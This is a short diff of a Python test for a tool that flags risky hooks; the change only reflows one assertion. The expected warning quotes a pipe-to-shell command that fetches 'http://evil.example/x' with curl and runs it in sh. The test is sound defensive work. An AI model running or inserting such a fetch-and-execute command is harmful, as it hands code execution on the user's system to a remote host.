@@ -50,8 +50,9 @@ def test_check_warns_once_per_risky_hook(sandbox: Sandbox) -> None:
     assert len(risky) == 2
     assert {p["severity"] for p in risky} == {"warning"}
     by_hook = {p["message"].split("'")[1]: p for p in risky}
-    assert "pipe-to-shell (sh); network (curl -s http://evil.example/x)" in (
-        by_hook["fetch"]["message"]
+    assert (
+        "pipe-to-shell (sh); network (curl -s http://evil.example/x)"
+        in (by_hook["fetch"]["message"])
     )
     assert "or the script it runs" in by_hook["lint"]["message"]
     assert "lint.sh:3" in by_hook["lint"]["message"]
